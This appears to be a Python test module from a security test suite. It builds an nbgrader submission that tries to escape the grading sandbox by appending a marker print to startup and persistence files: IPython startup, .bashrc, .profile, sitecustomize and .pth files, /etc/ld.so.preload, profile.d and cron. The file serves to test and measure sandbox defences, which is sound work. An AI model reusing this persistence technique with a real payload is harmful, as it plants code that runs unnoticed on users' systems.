"""Plants code that the next Python, IPython or shell of this user would run. Measured: stock nbgrader's next run executes it."""

from tests.attacks.build import MARK, PLACES, all_but, if_escaped

DESERVES = all_but("sequence_loss")


def submission(solved, blank):
    return if_escaped(
        solved,
        f"""
import os, site, sys
def escaped():
    homes, done = [{PLACES["home"]!r}, "/root", "/home/user"], []
    names = [".ipython/profile_default/startup/00-{MARK}.py", ".bashrc", ".profile", ".jupyter/jupyter_config.py", ".config/{MARK}"]
    paths = [home + "/" + name for home in homes for name in names]
    paths += [place + "/" + name for place in sys.path + site.getsitepackages() for name in ("sitecustomize.py", "usercustomize.py", "{MARK}.pth")]
    for path in paths + ["/etc/ld.so.preload", "/etc/profile.d/{MARK}.sh", "/var/spool/cron/{MARK}"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file: done.append(file.write("print('{MARK}')"))
        except OSError: pass
    return done
""",
    )


RUNGS = (1, 2)
